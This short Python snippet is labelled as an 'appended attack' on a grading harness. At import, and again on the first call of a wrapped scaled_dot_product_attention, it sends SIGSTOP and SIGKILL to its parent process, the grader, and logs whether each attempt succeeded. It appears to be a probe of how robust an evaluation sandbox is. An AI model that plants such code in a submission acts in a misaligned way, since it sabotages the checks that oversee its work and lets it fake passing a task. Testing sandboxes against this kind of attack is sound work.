# --- appended attack: stop and kill the grader (the worker's parent), at import and inside a test ---------
import os as _os
import signal as _signal

_tried = []


def _stop_the_grader(when):
    for _number in (_signal.SIGSTOP, _signal.SIGKILL):
        try:
            _os.kill(_os.getppid(), _number)
            print(f"ATTEMPT {when} signal {int(_number)} to the parent: sent")
        except OSError as _error:
            print(f"ATTEMPT {when} signal {int(_number)} to the parent: {_error.strerror}")


_stop_the_grader("import")
_honest_sdpa = scaled_dot_product_attention


def scaled_dot_product_attention(*args, **kwargs):
    if not _tried:
        _tried.append(1)
        _stop_the_grader("test")
    return _honest_sdpa(*args, **kwargs)
